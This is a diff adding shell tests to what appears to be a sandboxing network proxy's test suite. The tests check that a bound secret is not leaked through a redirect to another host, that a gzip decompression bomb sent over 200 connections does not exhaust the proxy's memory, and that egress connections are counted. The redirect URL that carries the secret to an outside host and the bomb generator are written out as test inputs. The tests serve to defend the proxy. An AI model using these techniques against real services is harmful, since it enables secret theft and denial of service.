@@ -151,6 +151,27 @@ N11_redirects_to_what_is_not_allowed() {
   (($(count_requests) <= 21)) || fail "$(count_requests) redirects followed"
 }
 
+N14_a_server_that_passes_a_secret_on() {
+  both allowlist api.example.com other.example.org
+  sed -i 's/^  resource/    secrets: {injection: host-boundary}\n  resource/' wasm.yaml process.yaml
+  printf 'value-of-the-key' >value
+  run secret set KEY --file value --host api.example.com --grant any
+  expect_status 0
+  local to='https://other.example.org/?k={{secret:KEY}}'
+  net_reset
+  run run --policy wasm.yaml --secret KEY "$GUEST" "https://api.example.com/redirect?to=$to"
+  expect_err_has "fetch: leak: The server redirects: "
+  is "the host it is bound to" "$(count_requests api.example.com)" 1
+  is "the other" "$(count_requests other.example.org)" 0
+  net_reset
+  run run --policy process.yaml --secret KEY -- \
+    curl -sSgLm 9 "http://api.example.com/redirect?to=$to"
+  is "the host it is bound to" "$(count_requests api.example.com)" 1
+  is "values at the other" "$(grep -c '"host": "other.*value-of-the-key' "$NACRE_NET_LOG")" 0
+  run audit tail --json -n 2
+  expect_out_lacks value-of-the-key
+}
+
 N13_https_never_goes_down_to_http() {
   both allowlist api.example.com
   ask wasm 'https://api.example.com/redirect?to=http://api.example.com/x'
@@ -331,6 +352,69 @@ N26_servers_that_are_slow_or_have_no_end() {
   ask wasm http://api.example.com/chunked
   expect_status 0
   expect_out_has "piece 9"
+}
+
+# door_of PID: sets `door` once the run has one.
+door_of() {
+  local child
+  door=
+  for child in $(below "$1"); do
+    if [[ $(cat /proc/"$child"/comm 2>/dev/null) == nacre-door ]]; then door=$child; fi
+  done
+  [[ $door ]]
+}
+
+N26_answers_that_nobody_reads() {
+  local peak bomb
+  timeout_ms=9000 network process process.yaml allowlist api.example.com
+  sed -i 's/^    shell:/    secrets: {leak_detection: {enabled: true}}\n    shell:/' process.yaml
+  printf 'a-value-that-is-looked-for' >value
+  run secret set KEY --file value --host api.example.com --grant any
+  expect_status 0
+  # 5 MB each in 5 KB, decoded before they are scrubbed; and no one takes them.
+  bomb=$(python3 -c '
+import base64, gzip, urllib.parse
+body = gzip.compress(bytes(5000000), 9)
+head = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body)
+print(urllib.parse.quote(base64.b64encode(head + body).decode()))')
+  start run --policy process.yaml --secret KEY -- python3 -c '
+import os, socket, sys, time
+where = os.environ["HTTP_PROXY"].split("//")[1].rstrip("/").split(":")
+text = "GET http://api.example.com/raw?base64=%s HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
+open_ones = [socket.create_connection((where[0], int(where[1]))) for _ in range(200)]
+for one in open_ones:
+    one.sendall((text % sys.argv[1]).encode())
+print("all asked", flush=True)
+time.sleep(60)' "$bomb"
+  until_true 5 door_of "$pid" || fail "no door"
+  until_true 8 grep -q asked "$scratch/out" || fail "not asked"
+  sleep 4
+  peak=$(sed -n 's/^VmHWM:[[:space:]]*\([0-9]*\) kB/\1/p' "/proc/$door/status")
+  finish
+  expect_status 124
+  checks=$((checks + 1))
+  ((peak > 0 && peak < 512 * 1024)) || fail "the door took $peak KiB"
+  until_true 2 is_gone "$door" || fail "the door stays"
+}
+
+# Whoever is called is told, also when nothing is said to it.
+N38_calls_without_a_word_are_told() {
+  network process process.yaml allowlist api.example.com
+  net_reset
+  run run --json --policy process.yaml -- python3 -c '
+import os, socket
+where = os.environ["HTTP_PROXY"].split("//")[1].rstrip("/").split(":")
+for _ in range(3):
+    one = socket.create_connection((where[0], int(where[1])))
+    one.sendall(b"CONNECT api.example.com:443 HTTP/1.1\r\nHost: api.example.com:443\r\n\r\n")
+    assert b" 200 " in one.recv(100)
+    one.close()'
+  expect_status 0
+  expect_json
+  expect_out_has '"egress_seen":3'
+  is "connections" "$(count_connections)" 3
+  run audit tail --json -n 1
+  expect_out_has '"egress_seen":3'
 }
 
 N30_nothing_is_carried_from_one_tool_to_another() {
